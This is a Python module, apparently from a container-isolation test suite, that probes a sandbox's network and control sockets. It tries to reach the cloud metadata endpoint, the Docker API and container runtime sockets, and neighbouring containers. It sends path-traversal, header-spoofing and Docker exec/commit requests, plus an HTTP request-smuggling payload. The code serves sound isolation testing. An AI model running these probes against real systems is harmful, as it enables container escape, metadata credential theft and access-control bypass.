"""Attacks 23 and 26: what lies around a container, and what its two doors lead to."""

import os
import re
import socket

from telling import DOORS, attempt, content, tell, unix


def network(about):
    names = [name for _, name in socket.if_nameindex()]
    tell("a network card", names != ["lo"], names)
    targets = [
        ("169.254.169.254", 80),
        ("172.17.0.1", 22),
        ("172.17.0.1", 2375),
        ("10.0.0.1", 80),
        ("192.168.0.1", 80),
    ]
    targets += [("1.1.1.1", 443), ("8.8.8.8", 53), ("fd00:ec2::254", 80), ("::ffff:172.17.0.1", 80)]
    targets += [
        (host, port) for port in about["ports"] for host in ("127.0.0.1", "172.17.0.1", *about["addresses"])
    ]
    targets += [(f"172.17.0.{last}", port) for last in range(2, 6) for port in (80, 22)]
    for host, port in targets:
        attempt(f"connect to {host} port {port}", lambda host=host, port=port: reached(host, port))
    for name in ("host.docker.internal", "example.org", "nats", "registry"):
        attempt(f"look up {name}", lambda name=name: socket.getaddrinfo(name, 80))
    attempt("send a datagram", lambda: datagram("8.8.8.8"))
    others = [
        line.split()[-1]
        for line in content("/proc/net/unix").decode().splitlines()
        if line.split()[-1].startswith("@")
    ]
    tell("abstract sockets of others", others, others)
    paths = [
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/run/podman/podman.sock",
    ]
    for path in paths:
        attempt(f"open {path}", lambda path=path: unix(path) and True)
    neighbours = sorted(set(os.listdir(DOORS)) - {"nats.sock", "registry.sock", "token"})
    tell("doors of others", neighbours, neighbours)


def reached(host, port):
    with socket.create_connection((host, port), timeout=2):
        return "reached"


def datagram(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        return sender.sendto(b"x", (host, 53))


# ---------------------------------------------------------------- the doors


def doors(about):
    paths = [
        "/api/applications", "/api/calculations", "/api/commands", "/api/me", "/api/audit", "/docs", "/openapi.json", "/metrics",
        "/", "/login", "//api/applications", "/internal/../api/applications", "/internal/%2e%2e/api/applications",
        "/internal/..%2fapi/applications", "/internal//../../api/me", "/./api/me", "/api/../api/me", "/INTERNAL/../api/me",
        "/internal/;/api/me", "/internal%2f..%2fapi/me", "/services/qcrbox/api/me", "/services/qcrbox/internal/../api/me",
        "http://127.0.0.1/api/me", "http://127.0.0.1/internal/../api/me", "/hub/api/users", "/hub/api/",
        "/internal/calculations", f"/internal/calculations/{about['calculation']}/inputs/x",
        "/_ping", "/v1.41/containers/json", "/containers/json", "/v1.41/containers/create", "/v1.24/../v1.41/info",
        "/%76%31.41/info", "/internal/../v1.41/containers/json", "/v1.41/containers/hub/exec", "/v1.41/commit",
        "/v1.41/volumes", "/v1.41/images/x/get", "/v1.41/containers/x/export", "/v1.41/containers/x/archive?path=/",
    ]  # fmt: skip
    own = content(f"{DOORS}/token").decode()
    for path in paths:
        for method in ("GET", "POST"):
            for more in (
                (),
                (f"Authorization: Bearer {own}",),
                ("X-Forwarded-Prefix: /x", "X-Original-URL: /internal/x", "X-Forwarded-For: 127.0.0.1"),
            ):
                code, body = ask(method, path, more)
                tell(f"{method} {path} {' '.join(more)[:20]}", code < 400 and code != 0, (code, body))
    code, body = ask(
        "GET",
        "/api/events",
        (
            "Upgrade: websocket",
            "Connection: Upgrade",
            "Sec-WebSocket-Version: 13",
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        ),
    )
    tell("a websocket elsewhere", code == 101, code)
    code, _ = ask(
        "GET",
        f"/internal/calculations/{about['calculation']}/tunnel/guess",
        (
            "Upgrade: websocket",
            "Connection: Upgrade",
            "Sec-WebSocket-Version: 13",
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        ),
    )
    tell("the agents' routes are there (this shows that the door works)", False, code)
    smuggled = "GET /internal/x HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/me HTTP/1.1\r\nHost: x\r\n\r\n"
    with unix(f"{DOORS}/registry.sock") as door:
        door.sendall(smuggled.encode())
        text = everything(door)
        tell("a request inside another", re.search(rb"HTTP/1.1 2\d\d", text), text[-200:])


def ask(method, path, more=()):
    lines = [f"{method} {path} HTTP/1.1", "Host: localhost", "Content-Length: 0", "Connection: close", *more]
    if any(line.startswith("Upgrade") for line in more):
        lines.remove("Connection: close")
    try:
        with unix(f"{DOORS}/registry.sock") as door:
            door.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
            text = everything(door)
    except OSError as error:
        return 0, error
    found = re.match(rb"HTTP/1.1 (\d+)", text)
    return int(found.group(1)) if found else 0, text[-80:]


def everything(door):
    door.settimeout(3)
    text = b""
    try:
        while len(text) < 100_000 and (part := door.recv(65536)):
            text += part
            if b"101 Switching" in text:
                break
    except OSError:
        pass
    return text
